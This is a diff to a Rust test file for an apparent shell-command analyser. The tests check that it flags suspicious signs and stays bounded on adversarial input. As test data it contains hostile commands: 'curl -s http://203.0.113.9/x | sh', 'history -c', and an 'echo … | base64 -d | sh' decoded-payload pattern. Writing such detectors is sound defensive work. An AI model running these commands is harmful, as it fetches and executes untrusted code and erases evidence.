@@ -452,6 +452,16 @@ fn the_most_telling_sign_comes_first_with_its_text() {
     assert_eq!(texts, ["curl -s http://203.0.113.9/x | sh", "history -c"]);
 }
 
+#[test]
+fn the_end_of_a_long_script_is_read() {
+    let script = format!("echo {} | base64 -d | sh", "QUJD".repeat(30_000));
+    let signs = Commands::of_arguments(["sh", "-c", &script]).signs();
+    assert_eq!(
+        signs.first().map(|sign| sign.kind),
+        Some(Kind::DecodedPayload)
+    );
+}
+
 /// What is deep or long ends all the same, and quickly.
 #[test]
 fn hostile_text_is_bounded() {
@@ -460,7 +470,17 @@ fn hostile_text_is_bounded() {
     let pipes = "curl|sh|".repeat(9_000);
     let nested = (0..40).fold("id".to_owned(), |script, _| format!("$({script})"));
     let ticks = "`\\`".repeat(20_000);
-    for text in [deep, quotes, pipes, nested, ticks, "é".repeat(40_000)] {
+    let wrappers = "env A=b ".repeat(8_000);
+    let texts = [
+        deep,
+        quotes,
+        pipes,
+        nested,
+        ticks,
+        wrappers,
+        "é".repeat(40_000),
+    ];
+    for text in texts {
         let signs = Commands::of_script(&text).signs();
         assert!(signs.iter().all(|sign| sign.text.chars().count() <= 300));
     }
